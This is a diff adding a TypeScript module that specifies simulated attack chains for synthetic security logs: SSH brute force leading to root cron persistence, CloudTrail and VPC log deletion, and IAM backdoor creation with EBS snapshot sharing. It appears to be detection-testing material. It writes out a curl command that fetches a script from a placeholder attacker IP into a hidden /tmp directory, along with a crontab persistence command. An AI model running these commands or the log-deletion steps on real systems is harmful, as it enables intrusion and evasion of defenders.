@@ -1,0 +1,93 @@
+/**
+ * Cross-source chains: one attacker, one victim, one server, seen by every source the attack touches. The CloudTrail
+ * records reuse the Stratus Red Team detonation templates (stratus.ts) for the calls they share; the hosts' records
+ * are the packs' own attack events (weight 0: never in the benign background); the EDR raises its alerts (ecs-alerts).
+ */
+import type { ScenarioSpec, StepSpec } from '../types.js';
+import { STRATUS } from './stratus.js';
+
+/** The record template of a Stratus scenario's step (by scenario and event name). */
+function stratusRecord(scenario: string, eventName: string): Readonly<Record<string, unknown>> {
+  const s = STRATUS.find((x) => x.name === `stratus.${scenario}`);
+  const step = s?.steps.find((st) => (st.record as { eventName?: string } | undefined)?.eventName === eventName);
+  if (!step?.record) throw new Error(`library: no ${eventName} in stratus.${scenario}`);
+  return step.record;
+}
+
+const minutes = (median: number) => ({ min_s: median * 15, median_s: median * 60, max_s: median * 240 });
+const seconds = (median: number) => ({ min_s: Math.max(0.2, median / 4), median_s: median, max_s: median * 4 });
+
+/** An alert the EDR or IDS raises on a step (ecs-alerts' attack_alert), about the same host and user. */
+function alert(name: string, values: Record<string, string>, techniques: readonly string[], tactic: string, host: StepSpec['host']): StepSpec {
+  return {
+    name,
+    source: 'ecs-alerts',
+    event: 'attack_alert',
+    techniques,
+    tactic,
+    after: seconds(20),
+    host,
+    values: { attack_id: '{{instance}}', attack_sequence: '{{step.sequence}}', attack_stage: tactic, source_ip: '{{attacker.ip}}', ...values },
+  };
+}
+
+/** `crontab` run by sudo: the attacker's persistence, as auditd logs the command (hex proctitle as the kernel writes it). */
+const CRON_COMMAND = '/usr/bin/crontab /tmp/.ICE-unix/.c';
+const CRON_PROCTITLE = Buffer.from('crontab\0/tmp/.ICE-unix/.c').toString('hex').toUpperCase();
+const FETCH_COMMAND = '/usr/bin/curl -fsSL http://{{attacker.ip}}/s.sh -o /tmp/.ICE-unix/.s';
+
+export const CHAINS: readonly ScenarioSpec[] = [
+  {
+    name: 'ssh-brute-force-persistence',
+    title: 'SSH password guessing on the bastion, a working password, sudo, and a root crontab',
+    origin: 'The pattern of SSH brute-force campaigns against internet-facing Linux hosts (MITRE ATT&CK T1110.001, T1053.003)',
+    victim: { kind: 'human', roles: ['admin', 'developer'] },
+    server: { roles: ['bastion'], environment: 'prod' },
+    when: 'off_hours',
+    steps: [
+      { name: 'guess', source: 'linux-auth', event: 'attack_password_failure', techniques: ['T1110.001'], tactic: 'credential-access', host: 'server', repeat: { min: 15, max: 60, gap: seconds(4) }, values: { attacker_ip: '{{attacker.ip}}' } },
+      { name: 'guess-audit', source: 'linux-auditd', event: 'attack_password_failure', techniques: ['T1110.001'], tactic: 'credential-access', host: 'server', alongside: 'guess', after: { min_s: 1.8, median_s: 2, max_s: 2.3 }, values: { attacker_ip: '{{attacker.ip}}' }, stage_end: true },
+      { name: 'login', source: 'linux-auth', event: 'attack_password_login', techniques: ['T1078.003'], tactic: 'initial-access', host: 'server', after: seconds(6), values: { attacker_ip: '{{attacker.ip}}' } },
+      { name: 'login-audit', source: 'linux-auditd', event: 'attack_password_login', techniques: ['T1078.003'], tactic: 'initial-access', host: 'server', values: { attacker_ip: '{{attacker.ip}}' } },
+      { name: 'fetch', source: 'linux-auth', event: 'sudo', techniques: ['T1105'], tactic: 'command-and-control', host: 'server', after: minutes(1), values: { command: FETCH_COMMAND } },
+      { name: 'persist', source: 'linux-auth', event: 'sudo', techniques: ['T1053.003'], tactic: 'persistence', host: 'server', after: minutes(2), values: { command: CRON_COMMAND } },
+      {
+        name: 'persist-audit',
+        source: 'linux-auditd',
+        event: 'sudo',
+        techniques: ['T1053.003'],
+        tactic: 'persistence',
+        host: 'server',
+        values: { command: CRON_COMMAND, 'command.comm': 'crontab', 'command.exe': '/usr/bin/crontab', 'command.argc': '2', 'command.args': 'a0="crontab" a1="/tmp/.ICE-unix/.c"', 'command.proctitle': CRON_PROCTITLE },
+      },
+      alert('alert-persist', { alert_rule: 'Cron job created by a session from a rare external address', alert_rule_id: 'HIDS-2217', alert_category: 'Persistence', alert_severity: '73', alert_module: 'hids', alert_product: 'Wazuh', alert_observer_type: 'hids', technique_id: 'T1053.003', technique_name: 'Cron', tactic_id: 'TA0003', tactic_name: 'Persistence', process_name: 'crontab', process_executable: '/usr/bin/crontab', command_line: CRON_COMMAND }, ['T1053.003'], 'persistence', 'server'),
+    ],
+  },
+  {
+    name: 'cloudtrail-defense-evasion',
+    title: 'Blind the defenders: stop and delete the trail, remove flow logs and DNS query logs',
+    origin: 'Stratus Red Team detonation records of cloudtrail-stop, cloudtrail-delete, vpc-remove-flow-logs and dns-delete-logs, in the order intrusions use them',
+    victim: { kind: 'human', roles: ['admin'] },
+    when: 'off_hours',
+    steps: [
+      { name: 'stop-logging', source: 'cloudtrail', event: 'record', techniques: ['T1562.008'], tactic: 'defense-evasion', record: stratusRecord('defense-evasion.cloudtrail-stop', 'StopLogging') },
+      { name: 'delete-trail', source: 'cloudtrail', event: 'record', techniques: ['T1562.008'], tactic: 'defense-evasion', after: seconds(40), record: stratusRecord('defense-evasion.cloudtrail-delete', 'DeleteTrail'), stage_end: true },
+      { name: 'remove-flow-logs', source: 'cloudtrail', event: 'record', techniques: ['T1562.008'], tactic: 'defense-evasion', after: minutes(2), record: stratusRecord('defense-evasion.vpc-remove-flow-logs', 'DeleteFlowLogs') },
+      { name: 'delete-dns-logs', source: 'cloudtrail', event: 'record', techniques: ['T1562.008'], tactic: 'defense-evasion', after: seconds(50), record: stratusRecord('defense-evasion.dns-delete-logs', 'DeleteResolverQueryLogConfig') },
+    ],
+  },
+  {
+    name: 'iam-persistence-snapshot-exfiltration',
+    title: 'Stolen credentials: a backdoor user with an admin policy, a console password, then an EBS snapshot shared out',
+    origin: 'Stratus Red Team detonation records of iam-create-admin-user, iam-create-user-login-profile and ec2-share-ebs-snapshot, chained as in cloud intrusion reports',
+    victim: { kind: 'human', roles: ['admin', 'developer'] },
+    when: 'any',
+    steps: [
+      { name: 'create-user', source: 'cloudtrail', event: 'record', techniques: ['T1136.003'], tactic: 'persistence', record: stratusRecord('persistence.iam-create-admin-user', 'CreateUser') },
+      { name: 'attach-admin', source: 'cloudtrail', event: 'record', techniques: ['T1098.003'], tactic: 'privilege-escalation', after: seconds(3), record: stratusRecord('persistence.iam-create-admin-user', 'AttachUserPolicy') },
+      { name: 'create-key', source: 'cloudtrail', event: 'record', techniques: ['T1098.001'], tactic: 'persistence', after: seconds(3), record: stratusRecord('persistence.iam-create-admin-user', 'CreateAccessKey'), stage_end: true },
+      { name: 'console-password', source: 'cloudtrail', event: 'record', techniques: ['T1098.001'], tactic: 'persistence', after: minutes(3), record: stratusRecord('persistence.iam-create-user-login-profile', 'CreateLoginProfile') },
+      { name: 'share-snapshot', source: 'cloudtrail', event: 'record', techniques: ['T1537'], tactic: 'exfiltration', after: minutes(20), chance: 0.8, record: stratusRecord('exfiltration.ec2-share-ebs-snapshot', 'ModifySnapshotAttribute') },
+    ],
+  },
+];
